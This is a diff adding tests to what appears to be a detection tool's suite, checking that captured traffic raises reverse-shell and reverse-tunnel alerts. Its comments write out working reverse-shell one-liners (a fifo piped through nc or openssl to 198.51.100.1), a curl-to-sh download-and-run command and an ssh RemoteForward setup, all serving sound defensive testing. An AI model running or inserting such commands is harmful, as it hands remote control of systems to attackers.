@@ -77,6 +77,30 @@ def test_benign_work_raises_nothing():
     assert alerts("benign.capture", SHORT) == []
 
 
+@pytest.mark.parametrize("helper", ["nc", "openssl"])
+def test_shell_fed_and_answered_through_a_fifo(helper):
+    # rm -f F; mkfifo F; cat F | /bin/sh -i 2>&1 | nc 198.51.100.1 4451 > F   (openssl: sh -i < F 2>&1 |
+    # openssl s_client -quiet -connect 198.51.100.1:4452 > F); the test host sent `echo pwned-$((6*7)); exit`
+    docs = alerts(f"pipes_fifo_reverse_shell_{helper}.capture")
+    assert rules(docs) == ["reverse_shell"]
+    message = docs[0]["message"]
+    assert helper in message and "fifo:[" in message and "`/bin/sh -i`" in message, message
+    assert docs[0]["process"]["args"] == ["/bin/sh", "-i"]
+    assert docs[0]["destination"]["ip"] == "198.51.100.1" and docs[0]["network"]["community_id"]
+
+
+def test_curl_pipe_sh_is_no_reverse_shell():
+    # curl -s http://198.51.100.1:8090/install.sh | sh | cat, where the script runs curl again
+    assert alerts("pipes_curl_pipe_sh_is_no_reverse_shell.capture") == []
+
+
+def test_ssh_config_with_remote_forward():
+    # ssh -F cfg -N backup, where cfg's "Host backup" sets RemoteForward 9000 127.0.0.1:8000; used from outside
+    docs = alerts("pipes_ssh_remote_forward_in_a_config_file.capture")
+    assert rules(docs) == ["reverse_tunnel"]
+    assert "remoteforward 9000 [127.0.0.1]:8000" in docs[0]["message"], docs[0]["message"]
+
+
 def test_a_file_that_is_no_capture_is_a_clear_error(tmp_path):
     bad = tmp_path / "x.capture"
     bad.write_bytes(b"\x93\xa3abc")
